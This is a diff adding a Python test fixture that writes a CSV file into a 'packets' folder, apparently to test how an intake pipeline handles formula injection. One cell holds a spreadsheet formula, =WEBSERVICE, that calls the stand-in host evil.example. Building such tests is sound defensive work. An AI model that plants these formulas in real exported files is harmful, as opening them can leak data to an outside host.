@@ -1,0 +1,16 @@
+"""A list with a formula that asks a stranger."""
+
+from pathlib import Path
+
+from policybank.core import write_bytes
+from tests.intake.banks import add_unchecked
+
+LISTS = {
+    "a.csv": b'title.en,type,rights.statement\n"=WEBSERVICE(""https://evil.example/"")",law,official-text\n'
+}
+
+
+def make_case(root: Path) -> None:
+    add_unchecked(root)
+    for name, data in LISTS.items():
+        write_bytes(root / "packets" / name, data)
